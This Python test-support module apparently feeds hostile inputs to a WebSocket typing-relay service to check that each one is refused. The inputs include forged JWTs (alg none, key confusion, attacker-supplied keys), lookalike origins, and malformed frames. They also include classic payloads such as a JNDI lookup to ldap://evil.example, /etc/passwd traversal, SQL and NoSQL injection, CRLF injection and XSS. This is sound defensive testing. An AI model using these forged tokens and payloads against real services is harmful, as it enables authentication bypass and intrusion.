"""What an attacker might send to the door, by name: tokens, handshakes, origins, frames, raw bytes.

Tokens are made by a function of a `Forger`, who knows what an attacker would have to guess: a test of a check is
worth something only if the token is good but for what that check looks at.
"""

import json
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import jwt
from cryptography.hazmat.primitives.asymmetric import rsa

from tests.support.token_samples import part, signed_as_is

CANARY = "c4n4ry-typed-by-a-visitor"
ORIGIN = "https://shop.example"
AUDIENCE = "typing-relay"
OTHER_SECRET = b"some other secret of more than 32 bytes"


class Forger:
    """Makes tokens that are good but for one thing."""

    def __init__(self, secret: bytes) -> None:
        self.secret = secret

    def claims(self, **changes: Any) -> dict[str, Any]:
        """Good claims of mallory; `left_out` names one to leave out."""
        left_out = changes.pop("left_out", None)
        claims = {"sub": "mallory", "exp": int(time.time()) + 600, "aud": AUDIENCE, **changes}
        return {name: value for name, value in claims.items() if name != left_out}

    def good(self, **changes: Any) -> str:
        """Truly signed, also where no library would."""
        return signed_as_is({"alg": "HS256", "typ": "JWT"}, self.claims(**changes), self.secret)

    def headed(self, header: Any) -> str:
        """Good claims and a true HS256 signature under another header."""
        return signed_as_is(header, self.claims(), self.secret)

    def with_payload(self, payload: Any) -> str:
        """A true signature over another payload."""
        return signed_as_is({"alg": "HS256"}, payload, self.secret)

    def by(self, secret: bytes) -> str:
        """Good claims, signed with another secret."""
        return signed_as_is({"alg": "HS256"}, self.claims(), secret)

    def unsigned(self, algorithm: str, signature: str = "") -> str:
        """Good claims without a signature."""
        return f"{part({'alg': algorithm})}.{part(self.claims())}.{signature}"

    def with_exp(self, expires: bytes) -> str:
        """A true signature over an `exp` as JSON never should have it."""
        return self.with_payload(b'{"sub":"mallory","aud":"typing-relay","exp":' + expires + b"}")

    def stolen_signature(self) -> str:
        """The victim's name over mallory's signature."""
        header, _, signature = self.good().split(".")
        return f"{header}.{part(self.claims(sub='victim'))}.{signature}"

    def by_own_key(self) -> str:
        """RS256 by a key of the attacker's, which the header brings along."""
        key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        public = jwt.get_algorithm_by_name("RS256").to_jwk(key.public_key(), as_dict=True)
        return jwt.encode(self.claims(), key, "RS256", headers={"jwk": public, "kid": "mine"})


TOKENS: dict[str, Callable[[Forger], str]] = {
    # no token at all
    "empty": lambda f: "",
    "blank": lambda f: "%20",
    "null": lambda f: "null",
    "undefined": lambda f: "undefined",
    "object": lambda f: "[object%20Object]",
    "garbage": lambda f: "garbage",
    "dots": lambda f: "..",
    "one dot": lambda f: "a.b",
    "four parts": lambda f: f.good() + ".more",
    "nul byte": lambda f: "%00",
    "line break": lambda f: f.good() + "%0d%0aX-Injected:%20yes",
    "bad utf-8": lambda f: "%ff%fe.%ff.%ff",
    "emoji": lambda f: "%F0%9F%98%80",
    "path": lambda f: "../../../../etc/passwd",
    "sql": lambda f: "'%20OR%20'1'='1",
    "lookup": lambda f: "%24%7Bjndi:ldap://evil.example/a%7D",
    "blank after": lambda f: f.good() + "%20",
    "padding": lambda f: f.good() + "=",
    "too long": lambda f: "a" * 5000,
    "good but too long": lambda f: f.good(filler="x" * 4000),
    "bearer": lambda f: "Bearer%20" + f.good(),
    # headers
    "header not json": lambda f: f.headed(b"{alg:HS256}"),
    "header array": lambda f: f.headed([]),
    "header deep": lambda f: f.headed(b"[" * 1500),
    "alg none": lambda f: f.unsigned("none"),
    "alg none signed": lambda f: f.unsigned("none", "AAAA"),
    "alg NONE": lambda f: f.unsigned("NONE", "AAAA"),
    "alg nOnE": lambda f: f.unsigned("nOnE", "AAAA"),
    "alg empty": lambda f: f.headed({"alg": ""}),
    "alg missing": lambda f: f.headed({"typ": "JWT"}),
    "alg list": lambda f: f.headed({"alg": ["HS256"]}),
    "alg in lower case": lambda f: f.headed({"alg": "hs256"}),
    "alg HS384": lambda f: f.headed({"alg": "HS384"}),
    "alg HS512": lambda f: f.headed({"alg": "HS512"}),
    "alg RS256 over hmac": lambda f: f.headed({"alg": "RS256"}),
    "alg ES256 over hmac": lambda f: f.headed({"alg": "ES256"}),
    "own key in header": lambda f: f.by_own_key(),
    "key id a path": lambda f: signed_as_is({"alg": "HS256", "kid": "../../dev/null"}, f.claims(), b""),
    "key id a number": lambda f: f.headed({"alg": "HS256", "kid": 7}),
    "crit unknown": lambda f: f.headed({"alg": "HS256", "crit": ["exp"]}),
    "b64 false": lambda f: f.headed({"alg": "HS256", "b64": False, "crit": ["b64"]}),
    # signatures
    "no signature": lambda f: f.good().rsplit(".", 1)[0] + ".",
    "signature cut": lambda f: f.good()[:-6],
    "victim by mallory's signature": lambda f: f.stolen_signature(),
    "another secret": lambda f: f.by(OTHER_SECRET),
    "empty secret": lambda f: f.by(b""),
    "secret of the tutorials": lambda f: f.by(b"your-256-bit-secret"),
    "secret null": lambda f: f.by(b"null"),
    # times
    "expired a minute ago": lambda f: f.good(exp=int(time.time()) - 60),
    "expired in 1970": lambda f: f.good(exp=0),
    "exp missing": lambda f: f.good(left_out="exp"),
    "exp null": lambda f: f.with_exp(b"null"),
    "exp text": lambda f: f.with_exp(b'"4102444800"'),
    "exp true": lambda f: f.with_exp(b"true"),
    "exp nan": lambda f: f.with_exp(b"NaN"),
    "exp infinite": lambda f: f.with_exp(b"Infinity"),
    "exp overflows": lambda f: f.with_exp(b"1e999"),
    "exp of 400 digits": lambda f: f.with_exp(b"9" * 400),
    "exp list": lambda f: f.with_exp(b"[4102444800]"),
    "exp negative": lambda f: f.with_exp(b"-1"),
    "not before tomorrow": lambda f: f.good(nbf=int(time.time()) + 86_400),
    # whom and for whom
    "sub missing": lambda f: f.good(left_out="sub"),
    "sub null": lambda f: f.good(sub=None),
    "sub empty": lambda f: f.good(sub=""),
    "sub number": lambda f: f.good(sub=7),
    "sub list": lambda f: f.good(sub=["victim"]),
    "sub object": lambda f: f.good(sub={"$ne": ""}),
    "sub too long": lambda f: f.good(sub="a" * 129),
    "sub with line break": lambda f: f.good(sub="victim\n"),
    "sub with nul": lambda f: f.good(sub="victim\x00"),
    "sub with blank": lambda f: f.good(sub="victim mallory"),
    "sub with quote": lambda f: f.good(sub='victim"'),
    "sub with slash": lambda f: f.good(sub="../victim"),
    "sub homoglyph": lambda f: f.good(sub="v\u0456ctim"),
    "aud missing": lambda f: f.good(left_out="aud"),
    "aud of another service": lambda f: f.good(aud="billing"),
    "aud list of others": lambda f: f.good(aud=["billing", "typing-relay-2"]),
    "aud number": lambda f: f.good(aud=7),
    "signals unreadable": lambda f: f.good(signals="maybe"),
    "payload null": lambda f: f.with_payload(b"null"),
    "payload array": lambda f: f.with_payload([]),
    "payload not json": lambda f: f.with_payload(b"sub=mallory"),
    "payload deep": lambda f: f.with_payload(b'{"sub":' + b"[" * 1500),
}


@dataclass(frozen=True)
class Handshake:
    """A handshake as it goes over the wire, but for the WebSocket headers."""

    query: str = ""
    origin: str | None = ORIGIN
    headers: dict[str, str] = field(default_factory=dict)


HANDSHAKES: dict[str, Callable[[Forger], Handshake]] = {
    "no query": lambda f: Handshake(),
    "token twice": lambda f: Handshake(f"?token={f.good()}&token={f.good()}"),
    "bad token, then a good one": lambda f: Handshake(f"?token=x&token={f.good()}"),
    "token both ways": lambda f: Handshake(f"?token={f.good()}", headers=_offering(f"token.{f.good()}")),
    "two tokens offered": lambda f: Handshake(headers=_offering(f"token.{f.good()}, token.{f.good()}")),
    "parameter in capitals": lambda f: Handshake(f"?TOKEN={f.good()}"),
    "parameter of another name": lambda f: Handshake(f"?access_token={f.good()}"),
    "parameter as an array": lambda f: Handshake(f"?token[]={f.good()}"),
    "token in the authorization header": lambda f: Handshake(headers={"Authorization": f"Bearer {f.good()}"}),
    "token in a cookie": lambda f: Handshake(headers={"Cookie": f"token={f.good()}"}),
    "session named beside a bad token": lambda f: Handshake("?token=x&session=victim"),
    "subprotocol without a token": lambda f: Handshake(headers=_offering("token.")),
    "subprotocol garbage": lambda f: Handshake(headers=_offering("token.garbage")),
    "subprotocol without its prefix": lambda f: Handshake(headers=_offering(f.good())),
    "subprotocol of another secret": lambda f: Handshake(headers=_offering(f"token.{f.by(OTHER_SECRET)}")),
    "a thousand subprotocols": lambda f: Handshake(headers=_offering(", ".join(f"token.{n}" for n in range(1000)))),
    "a url of 100 KB": lambda f: Handshake("?token=" + "a" * 100_000),
    "a header of 100 KB": lambda f: Handshake(headers={"X-Filler": "a" * 100_000}),
    "no origin": lambda f: Handshake(f"?token={f.good()}", origin=None),
    "origin null": lambda f: Handshake(f"?token={f.good()}", origin="null"),
    "foreign origin": lambda f: Handshake(f"?token={f.good()}", origin="https://evil.example"),
    "origin in the clear": lambda f: Handshake(f"?token={f.good()}", origin="http://shop.example"),
    "origin on another port": lambda f: Handshake(f"?token={f.good()}", origin="https://shop.example:8443"),
    "origin of a subdomain": lambda f: Handshake(f"?token={f.good()}", origin="https://a.shop.example"),
    "origin that begins alike": lambda f: Handshake(f"?token={f.good()}", origin="https://shop.example.evil.example"),
    "origin that ends alike": lambda f: Handshake(f"?token={f.good()}", origin="https://evilshop.example"),
    "origin with a user": lambda f: Handshake(f"?token={f.good()}", origin="https://shop.example@evil.example"),
    "origin with a path": lambda f: Handshake(f"?token={f.good()}", origin="https://shop.example/"),
    "two origins": lambda f: Handshake(f"?token={f.good()}", origin="https://shop.example, https://evil.example"),
}


def _offering(protocols: str) -> dict[str, str]:
    return {"Sec-WebSocket-Protocol": f"typing-relay, {protocols}"}


def _keystroke(**fields: Any) -> str:
    return json.dumps({"action": "keystroke", **fields})


# Text frames, and binary ones where they are bytes. Each is to be refused by an error frame with one of our codes.
FRAMES: dict[str, str | bytes] = {
    "empty": "",
    "blank": "  ",
    "plain text": CANARY,
    "null": "null",
    "number": "7",
    "text": json.dumps(CANARY),
    "array": json.dumps([CANARY]),
    "array of frames": json.dumps([{"action": "ping"}, {"action": "stop"}]),
    "empty object": "{}",
    "half a frame": '{"action":"keystroke"',
    "two frames": '{"action":"ping"}{"action":"ping"}',
    "trailing comma": '{"action":"ping",}',
    "single quotes": "{'action':'ping'}",
    "comment": '{"action":"ping"/*' + CANARY + "*/}",
    "byte order mark": '\ufeff{"action":"ping"}',
    "nul bytes": "\x00" * 100,
    "key twice": '{"action":"ping","action":"stop"}',
    "html": f"<script>alert('{CANARY}')</script>",
    "lookup": "${jndi:ldap://evil.example/" + CANARY + "}",
    "log line": f'\n{{"level":"INFO","message":"{CANARY}"}}\n',
    "emoji": "\U0001f600" * 50,
    # actions
    "action null": '{"action":null}',
    "action number": '{"action":7}',
    "action true": '{"action":true}',
    "action list": '{"action":["keystroke"]}',
    "action object": json.dumps({"action": {"action": CANARY}}),
    "action unknown": json.dumps({"action": CANARY}),
    "action in capitals": '{"action":"KEYSTROKE"}',
    "action with blank": '{"action":"ping "}',
    "action empty": '{"action":""}',
    "action default": '{"action":"$default"}',
    "action of the interpreter": '{"action":"__class__"}',
    "action lone surrogate": '{"action":"\\ud800"}',
    "action very long": json.dumps({"action": CANARY * 30}),
    # what was typed, and other keys
    "typed text": _keystroke(text=CANARY),
    "typed key": _keystroke(key=CANARY[0], ago_ms=0),
    "key of another case": json.dumps({"action": "keystroke", "Ago_ms": 0}),
    "ping with a payload": json.dumps({"action": "ping", "data": CANARY}),
    "hello with a name": json.dumps({"action": "hello", "name": CANARY}),
    "prototype": '{"action":"stop","__proto__":{"admin":true}}',
    "for another session": _keystroke(session="victim"),
    "for another session id": _keystroke(session_id="victim"),
    "for another connection": _keystroke(connectionId="victim"),
    "as another visitor": json.dumps({"action": "hello", "sub": "victim", "token": "x"}),
    "with a request context": _keystroke(requestContext={"authorizer": {"session": "victim"}}),
    "with an update expression": _keystroke(UpdateExpression="SET shown = :t"),
    # hold_ms
    "hold negative": _keystroke(hold_ms=-1),
    "hold of nothing": _keystroke(hold_ms=0),
    "hold too long": _keystroke(hold_ms=10_001),
    "hold text": _keystroke(hold_ms="6000"),
    "hold not whole": _keystroke(hold_ms=1.5),
    # ago_ms
    "ago negative": _keystroke(ago_ms=-1),
    "ago too old": _keystroke(ago_ms=2001),
    "ago text": _keystroke(ago_ms="0"),
    "ago null": _keystroke(ago_ms=None),
    "ago true": _keystroke(ago_ms=True),
    "ago list": _keystroke(ago_ms=[0]),
    "ago object": _keystroke(ago_ms={"$gt": 0}),
    "ago nan": _keystroke(ago_ms=float("nan")),
    "ago infinite": _keystroke(ago_ms=float("inf")),
    "ago overflows": '{"action":"keystroke","ago_ms":1e999}',
    "ago of 900 digits": '{"action":"keystroke","ago_ms":' + "9" * 900 + "}",
    "ago in hex": '{"action":"keystroke","ago_ms":0x10}',
    # size and depth
    "1025 bytes": "a" * 1025,
    "1025 bytes of blanks around a frame": '{"action":"ping"}' + " " * 1008,
    "400 characters of three bytes": "\u20ac" * 400,
    "30 KB": CANARY * 1200,
    "deep array": "[" * 1000,
    "deep object": '{"a":' * 200,
    "many keys": json.dumps({str(n): n for n in range(150)}),
    # binary
    "binary zeros": b"\x00" * 64,
    "binary noise": bytes(range(128, 256)),
    "binary nonsense": b"\xde\xad\xbe\xef",
    "binary of a bad frame": json.dumps({"action": "ping", "text": CANARY}).encode(),
    "binary in utf-16": '{"action":"ping"}'.encode("utf-16"),
    "binary gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00",
}


def _frame(opcode: int, payload: bytes, *, first_bits: int = 0x80, masked: bool = True) -> bytes:
    """A WebSocket frame (RFC 6455 §5.2), masked with zeros, of fewer than 65,536 bytes."""
    mask_bit = 0x80 if masked else 0
    size = bytes([mask_bit | len(payload)]) if len(payload) < 126 else struct.pack("!BH", mask_bit | 126, len(payload))
    return bytes([first_bits | opcode]) + size + (bytes(4) if masked else b"") + payload


_TYPED = f'{{"action":"keystroke","text":"{CANARY}"}}'.encode()

# Bytes after a good handshake that are no WebSocket, or hardly. The connection may end; the service may not.
RAW: dict[str, bytes] = {
    "unmasked frame": _frame(1, _TYPED, masked=False),
    "reserved opcode": _frame(3, _TYPED),
    "reserved bits": _frame(1, _TYPED, first_bits=0xF0),
    "continuation of nothing": _frame(0, _TYPED),
    "ping in parts": _frame(9, b"", first_bits=0),
    "ping too long": _frame(9, b"a" * 126),
    "text that is not utf-8": _frame(1, b"\xff\xfe\xfd" + _TYPED),
    "close with one byte": _frame(8, b"\x03"),
    "close with a reserved code": _frame(8, struct.pack("!H", 1005)),
    "half a frame": _frame(1, _TYPED)[:20],
    "an array 30,000 deep": _frame(1, b"[" * 30_000),  # too much for the emulator, which reads it to find the route
    "a frame said to have 2^62 bytes": bytes([0x81, 0xFF]) + struct.pack("!Q", 2**62) + bytes(4) + _TYPED,
    "http": b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "noise": bytes(range(256)) * 4,
    "a thousand pings": _frame(9, b"") * 1000,
    "a frame in a thousand parts": _frame(1, b"[", first_bits=0) + _frame(0, b"[", first_bits=0) * 999,
}
